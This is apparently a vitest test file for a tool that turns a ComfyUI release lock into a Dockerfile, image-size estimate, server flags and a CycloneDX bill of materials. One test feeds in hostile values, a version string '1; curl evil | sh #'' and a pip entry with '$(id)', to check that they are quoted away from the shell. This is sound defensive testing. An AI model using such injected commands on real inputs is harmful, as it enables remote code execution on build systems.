import { Spec, Validation } from "@cyclonedx/cyclonedx-library";
import { validate } from "dockerfile-utils";
import { describe, expect, it } from "vitest";

import type { ReleaseLock } from "../models/release-lock.ts";
import { comfyuiFlags, refusedFlags } from "./comfyui-flags.ts";
import { printDockerfile, printDockerignore } from "./dockerfile.ts";
import { planLayers } from "./image-layers.ts";
import { defaultImageOptions } from "./image-options.ts";
import { estimateImageSize } from "./image-size.ts";
import { downloadUrl } from "./model-url.ts";
import { buildSbom } from "./sbom.ts";

const hash = "ab".repeat(32);
const lock: ReleaseLock = {
  schema: "hearth.lock/1",
  name: "pictures",
  comfyui: {
    repository: "https://github.com/comfyanonymous/ComfyUI",
    version: "v0.33.0",
    commit: "783545f6".padEnd(40, "0"),
  },
  python: "3.12",
  packs: [
    { id: "impact", version: "8.1.0", repository: null, commit: null, sha256: hash },
    {
      id: null,
      version: null,
      repository: "https://github.com/someone/nodes",
      commit: "c".repeat(40),
      sha256: null,
    },
  ],
  models: [
    {
      folder: "checkpoints",
      filename: "base.safetensors",
      sha256: hash,
      bytes: 6_938_078_334,
      sources: ["hf:owner/repo/base file.safetensors"],
    },
    { folder: "loras", filename: "own.safetensors", sha256: null, bytes: null, sources: [] },
  ],
  pip: ["onnxruntime==1.20.0", "numpy<3"],
  nodeCatalogue: null,
  workflows: [],
  deployment: { warmup: null, comfyuiArguments: ["--fast"] },
};
const baked = { ...defaultImageOptions, isBaked: true };

/** Errors and warnings alike. */
function faultsOf(dockerfile: string): readonly string[] {
  return validate(dockerfile).map(
    ({ message, range }) => `${range.start.line + 1}: ${JSON.stringify(message)}`,
  );
}

describe("the Dockerfile of a worker image", () => {
  it.each([
    ["without weights", defaultImageOptions],
    ["with weights", baked],
  ])("is one that an independent checker accepts (%s)", (_name, options) => {
    expect(faultsOf(printDockerfile(planLayers(lock, options, 1_000)))).toEqual([]);
  });

  it("is told apart from a faulty one by that checker", () => {
    const broken = printDockerfile(planLayers(lock, defaultImageOptions, 1)).replace("USER", "USR");
    expect(faultsOf(broken)).not.toEqual([]);
  });

  it("puts what changes seldom first and runs as nobody in particular", () => {
    const text = printDockerfile(planLayers(lock, defaultImageOptions, 1_000));
    const order = [
      "'torch'",
      "/src/comfyui /opt",
      "'onnxruntime",
      "/src/packs /opt",
      "/agent /opt",
    ];
    const places = order.map((mark) => text.indexOf(mark));
    expect(places).toEqual(places.toSorted((left, right) => left - right));
    expect(places).not.toContain(-1);
    expect(text).toMatch(/^USER 10001:10001$/mu);
    expect(text.lastIndexOf("USER")).toBeLessThan(text.indexOf("ENTRYPOINT"));
  });

  it("holds weights only when asked to, each verified by the builder", () => {
    expect(printDockerfile(planLayers(lock, defaultImageOptions, 1))).not.toContain("ADD ");
    const text = printDockerfile(planLayers(lock, baked, 1));
    expect(text).toContain(
      `ADD --checksum=sha256:${hash} --chown=10001:10001 ["https://huggingface.co/owner/repo/resolve/main/base%20file.safetensors","/opt/comfyui/models/checkpoints/base.safetensors"]`,
    );
    expect(text).not.toContain("own.safetensors");
  });

  it("keeps what a lock says from reaching the shell", () => {
    const version = "1; curl evil | sh #'";
    const [pack] = lock.packs;
    const hostile = { ...lock, packs: [{ ...pack!, version }], pip: ["a'$(id)"] };
    const text = printDockerfile(planLayers(hostile, defaultImageOptions, 1));
    expect(text).toContain(`'1; curl evil | sh #'"'"''`);
    expect(text).toContain(`'a'"'"'$(id)'`);
  });

  it("sends a context of three things", () => {
    expect(printDockerignore()).toBe("*\n!agent\n!hearth.lock\n!fetch-source.sh\n");
  });
});

describe("the size of an image", () => {
  it("is the sum of its layers, held against each platform", () => {
    const limits = [
      { platform: "small", imageBytes: 5_000_000_000 },
      { platform: "large", imageBytes: Number.POSITIVE_INFINITY },
    ];
    const bare = estimateImageSize(planLayers(lock, defaultImageOptions, 1_000_000), limits);
    const heavy = estimateImageSize(planLayers(lock, baked, 1_000_000), limits);
    expect(heavy.totalBytes - bare.totalBytes).toBe(6_938_078_334);
    expect(bare.verdicts.map(({ fits }) => fits)).toEqual([false, true]);
    expect(bare.unknown).toEqual([]);
  });
});

describe("ComfyUI's flags", () => {
  it("are those of a server and the release's own", () => {
    expect(comfyuiFlags(lock)).toEqual([
      "--disable-auto-launch",
      "--dont-print-server",
      "--log-stdout",
      "--disable-api-nodes",
      "--fast",
    ]);
  });

  it("never open it to the network", () => {
    const comfyuiArguments = ["--listen=0.0.0.0", "--port", "--fast"];
    const open = { ...lock, deployment: { warmup: null, comfyuiArguments } };
    expect(refusedFlags(open)).toEqual(["--listen=0.0.0.0", "--port"]);
  });
});

describe("the bill of materials", () => {
  it("is valid CycloneDX 1.6, by its own library", async () => {
    const serial = {
      uuid: "6b1c5f0e-0000-4000-8000-000000000001",
      timestamp: "2026-11-25T00:00:00Z",
      hearthVersion: "0.1.0",
    };
    const bom = buildSbom(lock, baked, serial);
    const validator = new Validation.JsonStrictValidator(Spec.Version.v1dot6);
    expect(await validator.validate(JSON.stringify(bom))).toBeNull();
    const broken = { ...bom, serialNumber: "none" };
    expect(await validator.validate(JSON.stringify(broken))).not.toBeNull();
  });
});

describe("a source that a builder can fetch", () => {
  it.each([
    ["https://example.com/a.safetensors", "https://example.com/a.safetensors"],
    ["hf:o/r/dir/f@v1", "https://huggingface.co/o/r/resolve/v1/dir/f"],
    ["civitai:123", undefined],
    ["http://example.com/a", undefined],
  ])("%s", (source, url) => {
    expect(downloadUrl(source)).toBe(url);
  });
});
